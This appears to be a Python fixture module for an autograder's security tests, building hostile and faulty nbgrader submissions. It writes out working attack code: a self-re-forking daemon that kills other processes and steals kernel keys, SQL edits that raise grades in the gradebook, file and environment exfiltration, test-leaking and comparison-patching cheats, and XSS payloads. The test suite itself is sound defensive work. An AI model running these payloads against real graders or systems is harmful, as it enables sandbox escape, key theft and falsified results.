"""The adversarial and fault corpora, built against the two-exercise fixture notebook.

Each entry is a submission (nbgrader's submitted/STUDENT/00_fixture/ layout) and what the
grader must conclude: its score, and words that must appear in its recorded reason
or tampering report.  Used by tests/grading/test_security.py and by
benchmarks/security_compare.py (stock nbgrader vs this grader).
"""

from __future__ import annotations

import json
import os
import sqlite3
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ASSIGNMENT = "00_fixture"
CORRECT_1 = "def add_one(x):\n    return x + 1\n"
CORRECT_2 = "def double(x):\n    return x * 2\n"
WRONG_1 = "def add_one(x):\n    return x\n"
SECRET = "s3cret-grader-env-value"

# What a submission must never be able to see or print.
LEAK_MARKERS = ("BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "hidden_test(", "SQLite format 3", SECRET)
# Printed beside every attempt to leak the hidden tests: the learner's feedback must show none of it.
LEAK_PROBE = "LEAKPROBE"
XSS_MARK = "xss_payload_marker"
# Honest students graded after the hostile ones (student folders are graded in name order).
AFTER = [f"zz_after_{i}" for i in range(1, 5)]

SURVIVOR = """import os, signal, socket, time, glob
def _haunt():
    # outlive the notebook: kill every later kernel it can see, steal their connection keys
    while True:
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) not in (os.getpid(), 1):
                try:
                    os.kill(int(p), signal.SIGKILL)
                except OSError:
                    pass
        for f in glob.glob("/tmp/**/kernel*.json", recursive=True):
            try:
                open("/dev/shm/loot", "a").write(open(f).read())
            except OSError:
                pass
        time.sleep(0.05)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:  # re-fork so no pid lives long enough to be listed
            if os.fork() == 0:
                _haunt()
            time.sleep(3600)
    os._exit(0)
def add_one(x):
    return x
"""

LEAK_2 = """import base64, inspect, linecache, os, sys
def _leak(where, text):
    mark = "LEAK" "PROBE"  # spelled apart, so that only what the cell prints holds the mark
    print(mark, where, str(text)[:3000])
    print(mark, "b64", base64.b64encode(str(text).encode("utf-8", "replace")).decode()[:3000])
_leak("seed", "SEED=%s" % os.environ.get("AUTOGRADER_SEED"))
_leak("In", In[-2] if len(In) > 1 else "")
_leak("_ih", "\\n".join(_ih))
_leak("linecache", "".join("".join(v[2]) for v in list(linecache.cache.values()) if len(v) > 2))
def double(x):
    # called by the hidden test: look at the caller and shout its source
    frame = sys._getframe(1)
    try:
        _leak("frame", inspect.getsource(frame.f_code))
    except Exception as e:
        _leak("frame", frame.f_code.co_consts)
    return 2 * x
"""

LEAK_RAISE_2 = """import sys
def double(x):
    frame = sys._getframe(1)
    raise ValueError("LEAK" "PROBE " + "\\n".join(get_ipython().user_ns["In"]))
"""

BAD_OUTPUTS_1 = """from IPython.display import display
print("a NUL \\x00 here")
print("\\ud800 \\udfff")
display({"text/plain": "\\udcff surrogate in a bundle", "application/json": {"big": 10**400, "nan": float("nan"),
         "inf": float("inf")}}, raw=True)
deep = []
for _ in range(600):
    deep = [deep]
display({"application/json": {"deep": deep}, "text/plain": "deep"}, raw=True)
display({"text/plain": 12345678901234567890123456789}, raw=True)
def add_one(x):
    return x + 1
"""

XSS_1 = """from IPython.display import HTML, Javascript, display
display(HTML("<script>window.xss_payload_marker = 1</script><b>bold</b>"))
display(Javascript("window.xss_payload_marker = 2"))
display({"image/svg+xml": "<svg onload='window.xss_payload_marker=3'></svg>", "text/plain": "svg"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "xss_payload_marker"}}, raw=True)
def add_one(x):
    return x + 1
"""

FORGE_HUGE = """from IPython.display import display
for ex in ("ex0_1", "ex0_2"):
    display({"application/vnd.autograder.observations+json":
             {"exercise": ex, "observations": [{"name": "random", "value": {"t": "tensor", "dtype": "torch.float32",
              "shape": [10**400], "data": [10**400] * 7}}, {"name": ["x"]}, 7, None], "error": {"a": 10**400}}}, raw=True)
def add_one(x):
    return x
"""


@dataclass
class Case:
    student: str
    what: str
    score: float
    reason: str = ""  # must appear in the result's error or an exercise message
    tamper: str = ""  # must appear in the tampering report
    answers: dict = field(default_factory=dict)  # grade_id -> source
    mutate: object = None  # fn(nb dict) -> nb dict, after answers are set
    raw: bytes | None = None  # the notebook file's bytes, instead of a notebook
    extra: object = None  # fn(folder) to add files beside the notebook
    attack: bool = True  # an attack must earn what an empty submission earns


def answers(one: str | None = None, two: str | None = None) -> dict:
    d = {}
    if one is not None:
        d["ex0_1_solution"] = one
    if two is not None:
        d["ex0_2_solution"] = two
    return d


def attacks(course_dir: Path) -> list[Case]:
    db = course_dir / "gradebook.db"
    sol = course_dir / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    return [
        Case("input_transformer", "IPython input transformer turns every cell containing 'assert' into 'pass'", 0,
             answers=answers("""def _neuter(lines):
    return ["pass\\n"] if any("assert" in l for l in lines) else lines
get_ipython().input_transformers_post.append(_neuter)
def add_one(x):
    return x
""")),
        Case("sqlite_update", "opens the gradebook with sqlite3 and raises every grade", 0,
             answers=answers(f"""import sqlite3
for p in ["../../../gradebook.db", "../../gradebook.db", "../gradebook.db", "gradebook.db", {str(db)!r}]:
    try:
        con = sqlite3.connect(p)
        con.execute("UPDATE grade SET auto_score = 100")
        con.commit()
        print("UPDATED", p)
    except Exception as e:
        print("blocked", p, type(e).__name__)
def add_one(x):
    return x
""")),
        Case("walk_up", "walks up the tree and prints the solutions notebook and the gradebook", 0,
             answers=answers(f"""import os
for target in [{str(sol)!r}, {str(db)!r}, "../../../solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"]:
    try:
        print(open(target, errors="replace").read()[:5000])
    except Exception as e:
        print("blocked", target, type(e).__name__)
for top in ["/", os.path.expanduser("~"), "..", "../.."]:
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("usr", "proc", "sys", "dev", "etc", "lib", "lib64", "bin")]
        for f in files:
            if f.endswith((".ipynb", ".db")):
                try:
                    print(root, f, open(os.path.join(root, f), errors="replace").read()[:3000])
                except Exception:
                    pass
def add_one(x):
    return x
""")),
        Case("os_exit", "os._exit(0) in an answer cell", 0, reason="kernel died",
             answers=answers("import os\nos._exit(0)\n")),
        Case("patch_comparisons", "monkeypatches torch/numpy/math comparison functions to always agree", 0,
             answers=answers("""import torch, math, numpy
torch.equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a, **k: True
math.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
import torch.testing
torch.testing.assert_close = lambda *a, **k: None
def add_one(x):
    return x
""")),
        Case("always_equal", "returns an object whose __eq__ is always true", 0,
             answers=answers("""class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
import torch
torch.equal = lambda a, b: a == b
def add_one(x):
    return Yes()
""")),
        Case("hide_tracebacks", "overrides IPython's showtraceback so failures print nothing", 0,
             answers=answers("""ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
def add_one(x):
    return x
""")),
        Case("settrace", "installs sys.settrace to swallow assertion lines", 0,
             answers=answers("""import sys
def _tracer(frame, event, arg):
    return _tracer
sys.settrace(_tracer)
def add_one(x):
    return x
""")),
        Case("forge_observations", "displays forged observation payloads for every exercise", 0,
             answers=answers("""from IPython.display import display
import torch
for ex in ("ex0_1", "ex0_2"):
    display({"application/vnd.autograder.observations+json":
             {"exercise": ex, "observations": [{"name": "random", "value": {"t": "tensor", "dtype": "torch.float32",
              "shape": [7], "data": [0.0] * 7}, "spec": {"rtol": 1e9, "atol": 1e9}}], "error": None}}, raw=True)
def add_one(x):
    return x
""")),
        Case("patch_probe", "replaces the hidden-test recorder so it records nothing", 0,
             answers=answers("""import autograder.probe as p
p.observe = lambda ex, fn, seed=None: {"exercise": ex, "observations": [], "error": None}
p.hidden_test = lambda ex: (lambda fn: None)
def add_one(x):
    return x
""")),
        Case("survivor", "leaves a double-forked, re-forking daemon that kills later kernels and steals their keys", 0,
             answers=answers(SURVIVOR)),
        Case("forge_huge_numbers", "forges observations holding huge ints, malformed names and error objects", 0,
             answers=answers(FORGE_HUGE)),
        Case("kill_everything", "signals every process it can see", 0,
             answers=answers("import os, signal\nos.kill(-1, signal.SIGKILL)\n")),
        Case("write_outside", "writes files outside its folder (course dir, /tmp, home) and reads the environment", 0,
             answers=answers(f"""import os
for p in [{str(course_dir / 'PWNED')!r}, "/tmp/PWNED", "../PWNED", "../../PWNED", os.path.expanduser("~/PWNED"), "/etc/PWNED"]:
    try:
        open(p, "w").write("x")
        print("wrote", p)
    except Exception as e:
        print("blocked", p, type(e).__name__)
print(dict(os.environ))
def add_one(x):
    return x
""")),
        Case("network", "tries to reach the network", 0,
             answers=answers("""import socket
for host in [("8.8.8.8", 53), ("1.1.1.1", 443)]:
    try:
        socket.create_connection(host, timeout=2)
        print("CONNECTED", host)
    except OSError as e:
        print("blocked", host, type(e).__name__)
def add_one(x):
    return x
""")),
        Case("symlink_loot", "ships a symlink to the gradebook beside the notebook and reads it", 0,
             answers=answers("""try:
    print(open("loot.db", errors="replace").read()[:2000])
except Exception as e:
    print("blocked", type(e).__name__)
def add_one(x):
    return x
"""), extra=lambda folder: os.symlink(db, folder / "loot.db")),
        # -- tampering: recorded, and never worth points ------------------------------------------------
        Case("edit_tests", "replaces the test cells with 'pass' and answers wrongly", 0,
             tamper="test cell ex0_1_tests was edited", answers=answers(WRONG_1),
             mutate=lambda nb: _set_source(nb, {"ex0_1_tests": "pass", "ex0_2_tests": "pass"})),
        Case("delete_tests", "deletes the test cells and answers wrongly", 0,
             tamper="test cell ex0_1_tests was deleted", answers=answers(WRONG_1),
             mutate=lambda nb: _drop(nb, {"ex0_1_tests", "ex0_2_tests"})),
        Case("raise_points", "changes the points of a test cell to 100 (answers right)", 3,
             tamper="metadata of ex0_1_tests changed", answers=answers(CORRECT_1, CORRECT_2), attack=False,
             mutate=lambda nb: _set_meta(nb, "ex0_1_tests", points=100)),
        Case("kernelspec", "changes the kernelspec (answers right)", 3, tamper="kernelspec changed", attack=False,
             answers=answers(CORRECT_1, CORRECT_2), mutate=_kernelspec),
        Case("duplicate_ids", "duplicates a test cell's id (answers right)", 3, tamper="appears more than once",
             attack=False, answers=answers(CORRECT_1, CORRECT_2), mutate=_duplicate),
        Case("edit_tests_right", "edits the test cells but answers right", 3, tamper="was edited", attack=False,
             answers=answers(CORRECT_1, CORRECT_2),
             mutate=lambda nb: _set_source(nb, {"ex0_1_tests": "pass"})),
    ]


def faults() -> list[Case]:
    """Ex 0.1 answered right, then a fault in ex 0.2's answer cell: 1 point kept, the reason recorded."""
    return [
        Case("infinite_loop", "an infinite loop", 1, reason="time limit", attack=False,
             answers=answers(CORRECT_1, "while True:\n    pass\n")),
        Case("memory_hog", "allocates far more memory than allowed", 1, reason="MemoryError", attack=False,
             answers=answers(CORRECT_1, "x = bytearray(64 << 30)\n" + CORRECT_2)),
        Case("fork_storm", "a storm of processes", 1, reason="", attack=False,
             answers=answers(CORRECT_1, """import os, time
end = time.time() + 8
while time.time() < end:
    try:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
    except OSError:
        pass
raise RuntimeError("fork storm over")
""")),
        Case("exit_after_one", "os._exit after a correct first exercise", 1, reason="kernel died", attack=False,
             answers=answers(CORRECT_1, "import os\nos._exit(3)\n")),
        Case("segfault", "a segmentation fault", 1, reason="kernel died", attack=False,
             answers=answers(CORRECT_1, "import ctypes\nctypes.string_at(0)\n")),
        Case("output_flood", "prints without end", 1, reason="output", attack=False,
             answers=answers(CORRECT_1, "while True:\n    print('x' * 100000)\n")),
        Case("big_file", "writes a file larger than allowed", 1, reason="", attack=False,
             answers=answers(CORRECT_1, "open('big.bin', 'wb').write(b'0' * (512 << 20))\n" + CORRECT_2)),
        Case("leak_hidden", "prints In, _ih, linecache and the hidden test's frame, plain and base64 (answers right)",
             3, attack=False, answers=answers(CORRECT_1, LEAK_2)),
        Case("leak_by_raising", "raises the hidden test's source from inside the tested function", 1,
             attack=False, answers=answers(CORRECT_1, LEAK_RAISE_2)),
        Case("bad_outputs", "prints lone surrogates and NULs, displays huge ints, NaN and deep nesting (answers right)",
             3, attack=False, answers=answers(BAD_OUTPUTS_1, CORRECT_2)),
        Case("active_content", "displays HTML with script, JavaScript, SVG and a widget (answers right)", 3,
             attack=False, answers=answers(XSS_1, CORRECT_2),
             mutate=lambda nb: _append(nb, "markdown", "<script>window.xss_payload_marker = 4</script>")),
        Case("list_grade_id", "a list as the grade_id of the first answer cell (answers right)", 2,
             tamper="malformed", attack=False, answers=answers(CORRECT_1, CORRECT_2), mutate=_list_grade_id),
        Case("output_volume", "many cells each printing up to the per-cell budget (answers right)", 3, attack=False,
             answers=answers(CORRECT_1, CORRECT_2),
             mutate=lambda nb: _append(nb, "code", *["print('y' * (250 << 10))"] * 40)),
        Case("huge_message", "one message far larger than the output budget", 1, reason="output", attack=False,
             answers=answers(CORRECT_1, "import sys\nsys.stdout.write('z' * (64 << 20))\nsys.stdout.flush()\n" + CORRECT_2)),
        Case("malformed", "a file that is not JSON", 0, reason="could not be read", attack=False,
             raw=b"{this is not a notebook"),
        Case("truncated", "a notebook cut in half", 0, reason="could not be read", attack=False, raw=None),
        Case("other_assignment", "a notebook of another assignment", 0, tamper="does not look like", attack=False,
             mutate=_other_assignment),
    ]


def _cells(nb):
    return nb["cells"]


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _set_source(nb, sources):
    for c in _cells(nb):
        if _gid(c) in sources:
            c["source"] = sources[_gid(c)]
    return nb


def _drop(nb, ids):
    nb["cells"] = [c for c in _cells(nb) if _gid(c) not in ids]
    return nb


def _set_meta(nb, gid, **kw):
    for c in _cells(nb):
        if _gid(c) == gid:
            c["metadata"]["nbgrader"].update(kw)
    return nb


def _kernelspec(nb):
    nb["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python"}
    return nb


def _duplicate(nb):
    copy = json.loads(json.dumps(next(c for c in _cells(nb) if _gid(c) == "ex0_1_tests")))
    copy["id"] = "dup-cell"
    copy["source"] = "print('a second copy')"
    nb["cells"].append(copy)
    return nb


def _append(nb, kind, *sources):
    for src in sources:
        cell = {"cell_type": kind, "id": f"added-{len(nb['cells'])}", "metadata": {}, "source": src}
        if kind == "code":
            cell.update(outputs=[], execution_count=None)
        nb["cells"].append(cell)
    return nb


def _list_grade_id(nb):
    for c in _cells(nb):
        if _gid(c) == "ex0_1_solution":
            c["metadata"]["nbgrader"]["grade_id"] = ["ex0_1_solution"]
    return nb


def after_cases() -> list[Case]:
    """Honest students graded after every hostile one: each keeps full marks."""
    return [Case(s, "honest, graded after the hostile submissions", 3, attack=False,
                 answers=answers(CORRECT_1, CORRECT_2)) for s in AFTER]


def _other_assignment(nb):
    for c in _cells(nb):
        g = _gid(c)
        if g:
            c["metadata"]["nbgrader"]["grade_id"] = g.replace("ex0_", "ex5_")
    return nb


def build(cases: list[Case], release_nb: Path, submitted: Path) -> None:
    base = json.loads(release_nb.read_text())
    for case in cases:
        folder = submitted / case.student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        nb = json.loads(json.dumps(base))
        _set_source(nb, case.answers)
        if case.mutate:
            nb = case.mutate(nb)
        if case.raw is not None:
            data = case.raw
        elif case.student == "truncated":
            text = json.dumps(nb, indent=1)
            data = text[: len(text) // 2].encode()
        else:
            data = nbformat.writes(nbformat.from_dict(nb)).encode() if case.student != "kernelspec" else \
                json.dumps(nb, indent=1).encode()
        (folder / f"{ASSIGNMENT}.ipynb").write_bytes(data)
        if case.extra:
            case.extra(folder)


def gradebook_scores(course: Path) -> dict[str, float]:
    """Total auto score per student in a course's nbgrader gradebook (checks its integrity first)."""
    con = sqlite3.connect(course / "gradebook.db")
    assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    rows = con.execute("""SELECT student.id, grade.auto_score FROM grade
        JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
        JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
        JOIN student ON submitted_assignment.student_id = student.id""").fetchall()
    scores: dict[str, float] = {}
    for sid, score in rows:
        scores[sid] = scores.get(sid, 0.0) + (score or 0.0)
    return scores
